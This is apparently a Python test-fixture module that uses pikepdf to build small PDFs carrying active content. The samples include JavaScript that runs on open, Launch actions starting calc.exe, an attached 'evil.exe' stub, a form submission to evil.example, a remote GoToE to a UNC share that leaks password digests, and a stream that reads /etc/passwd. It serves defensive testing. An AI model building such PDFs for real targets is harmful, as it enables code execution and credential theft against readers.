"""Small PDFs for tests, and ways to put something active into them."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String


def pdf(change: Callable[[Pdf], None] | None = None, pages: int = 1) -> bytes:
    """Return a PDF of empty pages after a change to it."""
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(300, 200))
    if change is not None:
        change(made)
    out = BytesIO()
    made.save(out, deterministic_id=True)
    return out.getvalue()


def encrypted(**passwords: str) -> bytes:
    """Return a PDF behind passwords."""
    out = BytesIO()
    with Pdf.open(BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(**passwords))
    return out.getvalue()


def action(kind: str, **more: object) -> Dictionary:
    """Return an action."""
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def annotate(made: Pdf, subtype: str, **more: object) -> None:
    """Add an annotation to the first page."""
    each = Dictionary(
        Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 9, 9]), **more
    )
    placed = made.make_indirect(each)
    annotations = made.pages[0].obj.get("/Annots", Array())
    annotations.append(placed)
    made.pages[0].obj["/Annots"] = annotations
    if subtype == "Widget":
        made.Root.AcroForm = Dictionary(Fields=Array([placed]))


def open_with_script(made: Pdf) -> None:
    """Run a script when the document is opened."""
    made.Root.OpenAction = action("JavaScript", JS=String("app.alert(1)"))


def named_script(made: Pdf) -> None:
    """Keep a script in the name tree, as a stream."""
    script = made.make_stream(b"app.alert(1)")
    entry = made.make_indirect(action("JavaScript", JS=script))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), entry])))


def launch(made: Pdf) -> None:
    """Start a program by a click on a link."""
    annotate(made, "Link", A=action("Launch", F=String("calc.exe")))


def chained_launch(made: Pdf) -> None:
    """Hide the start of a program behind a turn of the page."""
    annotate(made, "Link", A=action("GoTo", Next=Array([action("Launch", F=String("calc.exe"))])))


def attach(made: Pdf) -> None:
    """Attach a file."""
    made.attachments["evil.exe"] = b"MZ"


def attach_on_page(made: Pdf) -> None:
    """Attach a file by a pin on a page."""
    inner = Dictionary(F=made.make_stream(b"MZ"))
    annotate(made, "FileAttachment", FS=Dictionary(Type=Name.Filespec, EF=inner))


def submit_form(made: Pdf) -> None:
    """Send a form elsewhere by a button, and when a field changes."""
    sent = action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))
    annotate(made, "Widget", FT=Name.Btn, A=sent, AA=Dictionary(K=sent))


def remote(made: Pdf) -> None:
    """Open a document on another machine, which hands over the reader's password digest."""
    made.pages[0].obj["/AA"] = Dictionary(O=action("GoToE", F=String("\\\\evil\\share.pdf")))


def outer_stream(made: Pdf) -> None:
    """Take the content of a page from another file."""
    made.pages[0].obj.Contents = made.make_stream(b"", F=String("/etc/passwd"))


def film(made: Pdf) -> None:
    """Play something."""
    annotate(made, "RichMedia", RichMediaContent=Dictionary())


def link(made: Pdf) -> None:
    """Link to a page of the web."""
    annotate(made, "Link", A=action("URI", URI=String("https://example.org/")))


def xfa(made: Pdf) -> None:
    """Carry a form in XML."""
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def dynamic(made: Pdf) -> None:
    """Be nothing but a form in XML."""
    xfa(made)
    made.Root.NeedsRendering = True


def portfolio(made: Pdf) -> None:
    """Be a folder of other files."""
    attach(made)
    made.Root.Collection = Dictionary(View=Name.D)


def sign(made: Pdf) -> None:
    """Carry a signature."""
    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("sig"))
    annotate(made, "Widget", FT=Name.Sig, V=made.make_indirect(value))


def both(*changes: Callable[[Pdf], None]) -> Callable[[Pdf], None]:
    """Return the change that makes several."""

    def change(made: Pdf) -> None:
        for each in changes:
            each(made)

    return change
